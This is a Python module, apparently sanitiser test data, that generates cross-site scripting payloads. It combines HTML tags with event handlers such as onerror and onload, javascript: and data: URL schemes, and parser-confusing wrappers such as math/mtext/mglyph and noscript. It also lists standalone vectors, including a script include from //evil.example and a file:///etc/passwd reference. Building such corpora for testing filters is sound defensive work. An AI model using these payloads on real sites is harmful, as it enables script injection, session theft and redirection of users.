"""Markup that wants to run: every known way of it, made from its parts (T9)."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_TAGS = (
    "img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object",
    "math", "style", "link", "a", "p", "table", "select", "textarea", "xss", "x:y", "image",
)  # fmt: skip
_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart",
    "onbegin", "onpointerrawupdate", "onbeforeinput", "ONERROR",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
# How an attribute may be tied to its tag and its value; %s are the tag, the handler and the code.
_TIES = (
    "<%s %s=%s>", "<%s/%s=%s>", "<%s\n%s\t=\r'%s'>", '<%s src=x %s="%s"', "<%s\x0c%s = %s //",
    '<%s title=">" %s=%s>', "<%s x='<!--' %s=%s>", "<%s\x00 %s=%s>", "<<%s %s=%s>>",
)  # fmt: skip
_CODE = ("alert(1)", "&#97;lert&lpar;1&rpar;", "top['al'+'ert'](1)", "alert`1`")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java&#x0a;script:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "&Tab;javascript:alert(1)",
    "javascript&#0000058alert(1)", "vbscript:run", "livescript:x",
    "data:text/html,<script>1</script>", "data:image/svg+xml;base64,PHN2Zy8+", "file:///etc/passwd",
    "feed:javascript:x", "blob:x", "view-source:x", "//evil.example", "\\\\evil.example",
    "jav\u0130script:x", "ｊavascript:x", "tel:1", "mailto:a@b.example?bcc=c@d.example",
    "https://user:word@evil.example/", "http://[", "https:x",
)  # fmt: skip
_PLACES = (
    '<a href="%s">x</a>', "<a href='%s'>x</a>", "<a href=%s>x</a>", '<img src="%s">',
    '<iframe src="%s"></iframe>', '<form action="%s"><button formaction="%s">x', '<base href="%s">',
    '<svg><a xlink:href="%s"><text>x</text></a></svg>', '<object data="%s">', '<embed src="%s">',
    '<meta http-equiv=refresh content="0;url=%s">', '<blockquote cite="%s">x</blockquote>',
    '<p style="background:url(%s)">x</p>', '<video poster="%s">', '<a ping="%s" href=/x>y</a>',
    '<svg><animate attributeName=href to="%s"/></svg>', '<link rel=import href="%s">',
    '<img srcset="%s 1x">', '<math href="%s">x</math>', '<td background="%s">', "[x](%s)", "%s",
)  # fmt: skip
# Elements whose content a parser reads otherwise than the next one.
_ROOMS = (
    "noscript", "style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "template",
    "plaintext", "script", "svg", "math", "table", "select", "option", "frameset", "foreignObject",
)  # fmt: skip
EVIL = "<img src=x onerror=alert(1)>"
_FRAMES = (
    "<{0}>{1}</{0}>", "<{0}>{1}", '<{0}><p title="</{0}>{1}">', "<{0}><!--</{0}>{1}-->",
    "<!--<{0}>-->{1}", "<svg><{0}>{1}</{0}></svg>", "<math><mtext><{0}>{1}</{0}></mtext></math>",
    "<math><mtext><table><mglyph><{0}><!--</{0}>{1}", "<{0}/>{1}", "<{0}><![CDATA[{1}]]></{0}>",
    "<svg></p><{0}><a title='</{0}>{1}'>",
    "<form><math><mtext></form><form><mglyph><{0}></math>{1}", "<select><{0}>{1}</select>",
    "<table><td><{0}></table>{1}", "<a><{0}><a>{1}</{0}>",
)  # fmt: skip
_ALONE = (
    "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT >",
    "<script/x>alert(1)//", "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=x>",
    "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY y '<script>1</script>'>]>&y;",
    "<![CDATA[<script>1</script>]]>", "<%00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'>", "<p id=location name=cookie class=x>y</p>",
    "<dialog open role=alert>x</dialog>", "<meter style=position:fixed>", "{{constructor}}", "${x}",
    "</p></div></body></html><script>1</script>", "\"'><script>1</script>", "<img src='x",
    '<a href="x', "<p \u202ex=y>turned\u2066</p>", "\x00<\x00s\x00c\x00r\x00i\x00p\x00t>",
    "&lt;script&gt;", "<" * 500,
)  # fmt: skip


def payloads() -> Iterator[str]:
    for tie, tag, handler in product(_TIES, _TAGS, _HANDLERS):
        yield tie % (tag, handler, _CODE[(len(tag) + len(handler)) % len(_CODE)])
    for place, scheme in product(_PLACES, _SCHEMES):
        yield place.replace("%s", scheme)
    for frame, room in product(_FRAMES, _ROOMS):
        yield frame.format(room, EVIL)
    yield from _ALONE
